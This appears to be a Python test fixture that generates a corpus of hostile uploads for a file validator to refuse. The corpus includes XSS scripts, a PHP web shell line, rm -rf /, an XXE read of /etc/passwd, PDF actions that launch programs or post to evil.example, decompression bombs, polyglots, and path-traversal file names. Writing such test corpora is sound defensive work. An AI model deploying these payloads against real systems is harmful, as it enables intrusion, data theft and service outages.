"""A corpus of hostile uploads, generated (nothing binary is committed).

Each entry: (case id, file name as sent, content). Every one must be refused.
"""

import functools
import io
import struct
import zipfile
import zlib

from PIL import Image

HTML = b"<html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def _image(image_format, size=(40, 30)):
    buffer = io.BytesIO()
    Image.new("RGB", size, (10, 120, 200)).save(buffer, image_format)
    return buffer.getvalue()


def png():
    return _image("PNG")


def jpeg():
    return _image("JPEG")


def _zip(entries):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def docx():
    return _zip(
        {
            "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
            'package/2006/content-types"/>',
            "word/document.xml": "<w:document/>",
        }
    )


def pdf(extra_catalog=b"", extra_objects=b"", extra_page=b""):
    """A small, well-formed PDF; ``extra_catalog`` and ``extra_page`` go into the catalog and its one page."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + extra_catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + extra_page + b" >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    out.write(extra_objects)
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def object_stream_pdf(streams=1, decoded_size=0, objects=None, catalog=b"/Extra [%(objects)s]"):
    """A valid PDF whose catalog points at one object in each of ``streams`` object streams.

    Each object stream holds one object (``objects[n]``, or a small dictionary), padded
    with spaces to ``decoded_size`` bytes; spaces compress about a thousandfold, so 8
    streams of 70 MB weigh about 540 KB: the "PDF bomb" of the security review. The
    compressed objects are numbered from 4; ``catalog`` may refer to them
    (``%(objects)s`` lists them all). Object streams are only reachable through a
    cross-reference stream, written here uncompressed with /W [1 4 2]. Compressed, the
    objects are invisible to a scan of the raw bytes: only the structure walk sees them.
    """
    objects = objects or [b"<< /Part %d >>" % n for n in range(streams)]
    streams = len(objects)
    first_stream = 4 + streams  # objects 4.. are the compressed ones, then their streams
    references = b" ".join(b"%d 0 R" % (4 + n) for n in range(streams))
    bodies = {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog % {b"objects": references} + b" >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    }
    for n, body in enumerate(objects):
        header = b"%d 0 " % (4 + n)
        packed = _deflate_padded(header + body, decoded_size)
        bodies[first_stream + n] = (
            b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (len(header), len(packed))
            + packed
            + b"\nendstream"
        )
    out = io.BytesIO()
    out.write(b"%PDF-1.5\n")
    offsets = {}
    for number, body in bodies.items():
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref_number = first_stream + streams
    offsets[xref_number] = out.tell()
    rows = [b"\x00" + struct.pack(">IH", 0, 65535)]
    for number in range(1, xref_number + 1):
        if 4 <= number < first_stream:  # compressed: type 2, stream number, index 0
            rows.append(b"\x02" + struct.pack(">IH", first_stream + number - 4, 0))
        else:
            rows.append(b"\x01" + struct.pack(">IH", offsets[number], 0))
    table = b"".join(rows)
    out.write(
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % (xref_number, xref_number + 1, len(table))
        + table
        + b"\nendstream\nendobj\n"
    )
    out.write(b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number])
    return out.getvalue()


def _deflate_padded(start, size):
    """zlib data of ``start`` followed by spaces up to ``size`` bytes, the spaces compressed once per size."""
    head = zlib.compressobj(9, zlib.DEFLATED, -15)
    # A full flush ends on a byte boundary with no reference to earlier bytes: any deflate blocks may follow.
    body = head.compress(start) + head.flush(zlib.Z_FULL_FLUSH)
    padding = max(0, size - len(start))
    # Adler-32 of start + spaces, in closed form: appending n bytes of value c adds n*c to A
    # and n*A + c*n(n+1)/2 to B (modulo 65521), without building the padding.
    start_sum = zlib.adler32(start)
    a, b = start_sum & 0xFFFF, start_sum >> 16
    space = ord(" ")
    checksum = ((b + padding * a + space * padding * (padding + 1) // 2) % 65521) << 16 | (a + padding * space) % 65521
    return b"\x78\xda" + body + _deflated_spaces(padding) + struct.pack(">I", checksum)


@functools.cache
def _deflated_spaces(count):
    tail = zlib.compressobj(9, zlib.DEFLATED, -15)
    return tail.compress(b" " * count) + tail.flush()


def pdf_bomb():
    """Eight object streams of 70 MB each in about 560 KB: each under pypdf's own 75 MB limit."""
    return object_stream_pdf(streams=8, decoded_size=70_000_000)


def pdf_beyond_library_limit():
    """One object stream of 80 MB: pypdf raises its LimitReachedError (which once answered 500)."""
    return object_stream_pdf(streams=1, decoded_size=80_000_000)


def encrypted_pdf():
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf())))
    writer.encrypt(user_password="secret", owner_password="secret2")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_bomb(width=60_000, height=60_000):
    """A valid PNG header announcing 3.6 gigapixels, with a few compressed rows: tiny on disk."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1-bit greyscale
    rows = zlib.compress(b"\x00" * ((width // 8 + 1) * 64), 9)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", rows) + _chunk(b"IEND", b"")


def png_with_script_text_chunk():
    data = png()
    return data[:33] + _chunk(b"tEXt", b"Comment\x00" + HTML) + data[33:]


def oversize_pdf():
    return pdf() + b"%" + b"0" * (10 * 1024 * 1024)


def pdf_with_hidden_action(action):
    """``action`` as the document's /OpenAction, compressed in an object stream."""
    return object_stream_pdf(objects=[action], catalog=b"/OpenAction %(objects)s")


def _link(action):
    return b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A " + action + b" >>]"


def corpus():
    js = b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"
    gotor = b"<< /S /GoToR /F (\\\\\\\\fileserver\\\\share\\\\releve.pdf) /D [0 /Fit] >>"
    return [
        ("html-as-pdf", "releve.pdf", HTML),
        ("html-with-bom-as-pdf", "releve.pdf", b"\xef\xbb\xbf" + HTML),
        ("javascript-as-pdf", "releve.pdf", b"alert(document.domain)"),
        ("pdf-openaction-javascript", "releve.pdf", pdf(js)),
        (
            "pdf-names-javascript",
            "releve.pdf",
            pdf(b"/Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (1) >>] >> >>"),
        ),
        ("pdf-hex-escaped-js-name", "releve.pdf", pdf(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>")),
        ("pdf-launch-action", "releve.pdf", pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>")),
        ("pdf-embedded-file", "releve.pdf", pdf(b"/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>")),
        ("pdf-rich-media", "releve.pdf", pdf(b"/AA << /O << /S /RichMedia >> >>")),
        ("pdf-submit-form", "releve.pdf", pdf(b"/OpenAction << /S /SubmitForm /F (http://evil.example/) >>")),
        ("pdf-import-data", "releve.pdf", pdf(b"/OpenAction << /S /ImportData /F (x.fdf) >>")),
        ("pdf-gotoe", "releve.pdf", pdf(b"/OpenAction << /S /GoToE /T << /R /C /N (a) >> >>")),
        ("pdf-xfa-form", "releve.pdf", pdf(b"/AcroForm << /XFA 5 0 R >>")),
        # Security review, item 7: a web page or a network share opened without a click, media, threads.
        ("pdf-openaction-uri", "releve.pdf", pdf(b"/OpenAction << /S /URI /URI (https://evil.example/t) >>")),
        (
            "pdf-openaction-next-uri",
            "releve.pdf",
            pdf(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://evil.example/) >> >>"),
        ),
        (
            "pdf-openaction-uri-in-object-stream",
            "releve.pdf",
            pdf_with_hidden_action(b"<< /S /URI /URI (https://e.example/) >>"),
        ),
        ("pdf-gotor-openaction", "releve.pdf", pdf(b"/OpenAction " + gotor)),
        ("pdf-gotor-link-on-page", "releve.pdf", pdf(extra_page=_link(gotor))),
        ("pdf-gotor-in-object-stream", "releve.pdf", pdf_with_hidden_action(gotor)),
        ("pdf-launch-link-on-page", "releve.pdf", pdf(extra_page=_link(b"<< /S /Launch /F (calc.exe) >>"))),
        ("pdf-launch-in-object-stream", "releve.pdf", pdf_with_hidden_action(b"<< /S /Launch /F (calc.exe) >>")),
        ("pdf-gotoe-in-object-stream", "releve.pdf", pdf_with_hidden_action(b"<< /S /GoToE /T << /R /C >> >>")),
        ("pdf-thread-action", "releve.pdf", pdf(b"/OpenAction << /S /Thread /D 0 /F (other.pdf) >>")),
        ("pdf-sound-action", "releve.pdf", pdf(b"/OpenAction << /S /Sound /Sound 4 0 R >>")),
        ("pdf-movie-annotation", "releve.pdf", pdf(extra_page=b"/Annots [<< /Subtype /Movie /Rect [0 0 9 9] >>]")),
        ("pdf-rendition-action", "releve.pdf", pdf(extra_page=_link(b"<< /S /Rendition /OP 0 >>"))),
        ("pdf-additional-actions-on-page", "releve.pdf", pdf(extra_page=b"/AA << /O << /S /GoTo /D [0 /Fit] >> >>")),
        (
            "pdf-additional-actions-in-object-stream",
            "releve.pdf",
            object_stream_pdf(
                objects=[b"<< /AA << /WC << /S /GoTo /D [0 /Fit] >> >> >>"], catalog=b"/Extra %(objects)s"
            ),
        ),
        # Items 2 and 6: decompression bombs and the PDF library's own limits.
        ("pdf-object-stream-bomb", "releve.pdf", pdf_bomb()),
        ("pdf-beyond-library-limit", "releve.pdf", pdf_beyond_library_limit()),
        ("pdf-encrypted", "releve.pdf", encrypted_pdf()),
        ("pdf-damaged", "releve.pdf", b"%PDF-1.7\n" + b"\x00garbage" * 50),
        ("pdf-with-html-inside", "releve.pdf", b"%PDF-1.4\n" + HTML + pdf()[9:]),
        ("pdf-with-second-pdf", "releve.pdf", pdf() + pdf()),
        ("svg-with-script", "image.svg", SVG),
        ("svg-as-png", "image.png", SVG),
        ("svg-as-pdf", "releve.pdf", b'<?xml version="1.0"?>' + SVG),
        ("png-plus-html", "photo.png", png() + HTML),
        ("jpeg-plus-html", "photo.jpg", jpeg() + HTML),
        ("png-plus-zip-gifar", "photo.png", png() + _zip({"payload.html": HTML})),
        ("jpeg-plus-jar-gifar", "photo.jpg", jpeg() + _zip({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\n"})),
        ("gif-plus-jar", "photo.gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;" + _zip({"A.class": b"\xca\xfe\xba\xbe"})),
        ("png-script-in-text-chunk", "photo.png", png_with_script_text_chunk()),
        ("png-decompression-bomb", "scan.png", png_bomb()),
        ("png-damaged", "scan.png", png()[:60]),
        ("zip-archive", "pieces.zip", _zip({"a.pdf": pdf()})),
        ("zip-as-pdf", "releve.pdf", _zip({"a.pdf": pdf()})),
        ("docx", "lettre.docx", docx()),
        ("docx-as-pdf", "lettre.pdf", docx()),
        ("windows-exe-as-pdf", "releve.pdf", b"MZ\x90\x00\x03" + b"\x00" * 200),
        ("elf-as-png", "photo.png", b"\x7fELF\x02\x01\x01" + b"\x00" * 200),
        ("shell-script-as-jpg", "photo.jpg", b"#!/bin/sh\nrm -rf /\n"),
        ("php-as-png", "photo.png", b"<?php system($_GET['c']); ?>"),
        ("postscript-as-pdf", "releve.pdf", b"%!PS-Adobe-3.0\n/Helvetica findfont\n"),
        ("rtf-as-pdf", "releve.pdf", b"{\\rtf1\\ansi Hello}"),
        (
            "xml-xxe-as-pdf",
            "releve.pdf",
            b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        ),
        ("gzip-as-pdf", "releve.pdf", b"\x1f\x8b\x08\x00" + zlib.compress(b"\x00" * 100000)),
        ("plain-text", "notes.txt", "Bonjour, voici ma réclamation".encode()),
        ("empty-file", "vide.pdf", b""),
        ("oversize-pdf", "gros.pdf", oversize_pdf()),
        ("path-traversal-with-html", "../../../../var/www/index.pdf", HTML),
        ("null-byte-name-with-html", "page.html\x00.pdf", HTML),
        ("windows-traversal-with-svg", "..\\..\\evil.png", SVG),
    ]
